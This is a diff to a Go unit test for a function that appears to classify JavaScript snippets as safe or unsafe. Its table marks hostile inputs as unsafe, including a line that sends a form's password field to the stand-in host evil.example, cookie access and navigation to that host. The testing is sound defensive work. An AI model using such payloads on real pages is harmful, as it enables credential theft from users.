@@ -79,12 +79,20 @@ func TestCalmCode(t *testing.T) {
 		{"setinterval(\"tick()\", 1000)", false},
 		{"a['constructor']", false},
 		{`go('\x41')`, false},
-		{"go(`1`)", false},
 		{"location.hash='x'", false},
 		{"setopen(!open)", true},
 		{"open('/help')", false},
 		{"new image().src='//evil.example/?'+this.form.pw.value", false},
 		{"router.push('/settings')", true},
+		{"document.getelementbyid('menu').classlist.toggle('open')", true},
+		{"document.write(1)", false},
+		{"document.body.innerhtml=''", false},
+		{"() => navigate(`/users/${id}`)", true},
+		{"setmsg(`hi ${name} there`)", true},
+		{"x=`a`+y`b`", false},
+		{"fn()`1`", false},
+		{"x[`cookie`]", false},
+		{"go(`//evil.example`)", false},
 	}
 	for _, tt := range tests {
 		if got := calmCode(tt.code); got != tt.want {
